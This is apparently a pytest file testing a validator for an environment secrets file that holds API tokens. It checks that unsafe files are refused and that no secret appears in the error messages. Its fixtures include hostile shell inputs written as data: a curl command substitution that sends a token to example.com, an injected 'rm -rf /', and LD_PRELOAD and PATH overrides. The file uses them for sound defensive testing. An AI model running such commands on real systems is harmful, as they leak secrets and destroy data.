"""An environment's secret file: what is refused, and that nothing of it is ever shown."""

import shutil
import subprocess
import tempfile
from collections.abc import Callable
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from pipeline_zen.settings import SettingsError, config_env
from tests.conftest import ROOT

CANARY = "hf_CANARY4f1c9e"
SOUND = f"PZ_HUGGINGFACE_TOKEN={CANARY}\nPZ_CUSTOMER_API_KEY='{CANARY} with spaces'\n"

UNSOUND = {
    "empty-file": "",
    "template-as-it-is": (ROOT / "config-example.env").read_text(encoding="utf-8"),
    "missing": f"PZ_HUGGINGFACE_TOKEN={CANARY}\n",
    "empty": f"PZ_HUGGINGFACE_TOKEN=''\nPZ_CUSTOMER_API_KEY={CANARY}\n",
    "given-twice": f"{SOUND}PZ_CUSTOMER_API_KEY={CANARY}\n",
    "command": f"{SOUND}EXTRA=$(curl example.com/{CANARY})\n",
    "two-commands": f"PZ_HUGGINGFACE_TOKEN={CANARY}; rm -rf /\nPZ_CUSTOMER_API_KEY={CANARY}\n",
    "expansion-in-quotes": f'{SOUND}EXTRA="$HOME {CANARY}"\n',
    "unclosed-quote": f"PZ_HUGGINGFACE_TOKEN='{CANARY}\nPZ_CUSTOMER_API_KEY={CANARY}\n",
    "spaces": f"PZ_HUGGINGFACE_TOKEN = {CANARY}\nPZ_CUSTOMER_API_KEY={CANARY}\n",
    "no-setting": f"{SOUND}{CANARY}\n",
    "windows": SOUND.replace("\n", "\r\n"),
    "byte-order-mark": f"\ufeff{SOUND}",
    "blank-that-is-none": f"{SOUND}\u00a0EXTRA=1\n",
    "blanks-in-a-row": f"{SOUND}\u3000\n\x0c\n",
    "shells-own-names": f"{SOUND}UID=1\nPATH=/{CANARY}\nLD_PRELOAD=/x\n",
    "another-ground": f"{SOUND}export PZ_ENV=prod\nCLOUDSDK_{CANARY}=x\nhttp_proxy={CANARY}\n",
    "control-character": f"{SOUND}EXTRA='\x1b[1m{CANARY}'\n",
    "token-over-two-lines": f"{SOUND}EXTRA=abc\n{CANARY}==\n{CANARY}==\n",
    "only-blanks": f"PZ_HUGGINGFACE_TOKEN=' '\nPZ_CUSTOMER_API_KEY={CANARY}\n",
    "too-long": f"{SOUND}EXTRA={CANARY * 5_000}\n",
}


@pytest.mark.parametrize("case", UNSOUND)
def test_unsound(case: str, tmp_path: Path, golden: Callable[[str], object]) -> None:
    """What a VM's shell would trip over, or run, is told by its line, and its text is not shown."""
    (tmp_path / "dev-config.env").write_text(UNSOUND[case], encoding="utf-8", newline="")

    with pytest.raises(SettingsError) as caught:
        config_env.check(tmp_path, "dev")

    text = f"{caught.value}\n"
    assert "CANARY" not in text
    assert golden(f"{case}.txt") == text


@pytest.mark.parametrize(
    "text",
    [
        SOUND,
        f"# A comment\n\nexport {SOUND}",
        f'{SOUND}EXTRA="two words"\nEMPTY=\n',
        SOUND.rstrip("\n"),
    ],
)
def test_sound(text: str, tmp_path: Path) -> None:
    """Comments, quotes, exports and further settings are welcome."""
    (tmp_path / "dev-config.env").write_text(text, encoding="utf-8")

    config_env.check(tmp_path, "dev")


@given(
    st.text(
        st.sampled_from("A1_=$`\"'\\ \t#;&|<>(){}*?!~-+.:,@%/\n\x00\x0b\x0c\x1b\u00a0\u2028é"),
        max_size=30,
    )
)
@settings(deadline=None, max_examples=300, derandomize=True)
def test_a_shell_takes_what_is_let_through(text: str) -> None:
    """A real shell reads every file that passes, runs nothing of it, and goes on to its end."""
    with tempfile.TemporaryDirectory() as folder:
        file = Path(folder, "dev-config.env")
        file.write_text(f"{SOUND}{text}\n", encoding="utf-8")
        try:
            config_env.check(Path(folder), "dev")
        except SettingsError:
            return
        shell = subprocess.run(
            [str(shutil.which("bash")), "-euc", ". ./dev-config.env && echo read to the end"],
            cwd=folder,
            env={"PATH": ""},
            capture_output=True,
            text=True,
            check=False,
        )
        assert ("read to the end\n", "") == (shell.stdout, shell.stderr)
        assert ["dev-config.env"] == [path.name for path in Path(folder).iterdir()]


def test_missing_file(tmp_path: Path) -> None:
    """A missing file is told with the template to copy."""
    with pytest.raises(SettingsError) as caught:
        config_env.check(tmp_path, "prod")

    assert (
        "prod-config.env: no such file\n"
        "Make it by `install -m 600 config-example.env prod-config.env` and fill it in."
    ) == str(caught.value)


def test_the_template_names_what_is_required() -> None:
    """The template and the check agree."""
    lines = (ROOT / "config-example.env").read_text(encoding="utf-8").splitlines()

    names = [line.rstrip("=") for line in lines if line and not line.startswith("#")]
    assert list(config_env.REQUIRED) == names
